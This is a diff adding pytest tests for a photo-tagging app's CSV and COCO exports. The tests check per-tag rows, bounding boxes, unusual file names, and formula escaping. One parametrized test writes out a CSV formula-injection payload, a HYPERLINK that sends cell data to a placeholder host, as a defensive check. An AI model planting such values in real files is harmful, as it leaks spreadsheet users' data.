@@ -1,0 +1,122 @@
+from dataclasses import replace
+from datetime import UTC, datetime
+
+import pytest
+from fastapi.testclient import TestClient
+
+from app.adapters.aws.table import Table
+from app.domain.ids import created_at
+from app.domain.tags import TagEdit
+from detector import BoundingBox, Detection
+from tests.support.exports import boxes, check_coco, export, make_image, pages, table_rows
+
+MOMENT = datetime(2026, 1, 31, 12, tzinfo=UTC)
+
+
+def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, table: Table, owner: str) -> None:
+    edits = {"cat": TagEdit(3, MOMENT), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
+    tagged = table.save(replace(make_image(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
+    untagged = table.save(make_image(owner))
+
+    (response,) = pages(client, "csv")
+
+    added = [created_at(image.id).isoformat(timespec="seconds") for image in (untagged, tagged)]
+    image_cells = [tagged.id, "beach.jpg", added[1], "2026-01-31T12:00:00+00:00", "64", "48"]
+    assert table_rows(response) == [
+        ["id", "name", "added", "taken", "width", "height", "tag", "count", "boxes", "edited"],
+        [untagged.id, "beach.jpg", added[0], "", "64", "48", "", "0", "0", ""],
+        [*image_cells, "dog", "5", "2", "2026-01-31T12:00:00+00:00"],
+        [*image_cells, "cat", "3", "0", "2026-01-31T12:00:00+00:00"],
+        [*image_cells, "person", "1", "1", ""],
+    ]
+    assert response.text.count("\r\n") == response.text.count("\n") == 5
+
+
+def test_coco_has_annotation_for_each_detection(client: TestClient, table: Table, owner: str) -> None:
+    detections = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
+    saved = table.save(
+        replace(make_image(owner), detections=detections, edits={"cat": TagEdit(3, MOMENT)}, taken_at=MOMENT)
+    )
+
+    document = export(client, "coco")
+
+    check_coco(document)
+    assert document["images"] == [
+        {
+            "id": 1,
+            "file_name": "beach.jpg",
+            "width": 64,
+            "height": 48,
+            "date_captured": "2026-01-31T12:00:00Z",
+            "pixtag_id": saved.id,
+            "model": "fake@1",
+            "tags": {"cat": 3, "dog": 2},
+        }
+    ]
+    assert document["categories"] == [{"id": 1, "name": "dog", "supercategory": ""}]
+    common = {"image_id": 1, "category_id": 1, "segmentation": [], "iscrowd": 0, "score": 0.8765}
+    assert document["annotations"] == [
+        {"id": 1, "bbox": [0.3, 2.0, 29.7, 38.1], "area": 1131.57, **common},
+        {"id": 2, "bbox": [1.5, 2.0, 28.5, 38.1], "area": 1085.85, **common},
+    ]
+    assert document["info"]["description"] == "A page of a PixTag library"
+    assert document["licenses"] == []
+
+
+def test_coco_excludes_detections_of_removed_tags(client: TestClient, table: Table, owner: str) -> None:
+    edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
+    saved = table.save(replace(make_image(owner, dog=1, cat=2), edits=edits))
+
+    document = export(client, "coco")
+
+    assert boxes(document) == [(saved.id, "cat", [1.5, top, 28.5, 1.5]) for top in (2.0, 4.0)]
+    assert document["images"][0]["tags"] == {"cat": 1}
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        'the "best", of all.jpg',
+        "two\r\nlines.jpg",
+        "a,b;c\td.jpg",
+        "'quoted'.jpg",
+        "👩‍👩‍👧 Ελλάδα 写真.jpg",
+        "5.jpg",
+    ],
+)
+def test_name_with_special_characters_is_exported_unchanged(
+    client: TestClient, table: Table, owner: str, name: str
+) -> None:
+    table.save(replace(make_image(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))
+
+    assert [(row[1], row[6]) for row in export(client)] == [(name, name), (name, "dog")]
+    entry = export(client, "coco")["images"][0]
+    assert (entry["file_name"], entry["tags"][name]) == (name, 2)
+
+
+def test_coco_with_unicode_name_is_ascii(client: TestClient, table: Table, owner: str) -> None:
+    table.save(replace(make_image(owner), name="写真.jpg"))
+
+    (response,) = pages(client, "coco")
+
+    assert response.content.isascii()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
+def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, table: Table, owner: str, start: str) -> None:
+    name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
+    table.save(replace(make_image(owner), name=name, edits={name: TagEdit(1, MOMENT)}))
+
+    (row,) = export(client)
+
+    assert (row[1], row[6]) == (f"'{name}", f"'{name}")
+    assert row[4:6] + row[7:9] == ["64", "48", "1", "0"]
+    assert export(client, "coco")["images"][0]["file_name"] == name
+
+
+def test_csv_formula_after_semicolon_is_escaped(client: TestClient, table: Table, owner: str) -> None:
+    table.save(replace(make_image(owner), name="sea; sand;=1+1; -2.jpg"))
+
+    (row,) = export(client)
+
+    assert row[1] == "sea; sand;'=1+1;' -2.jpg"
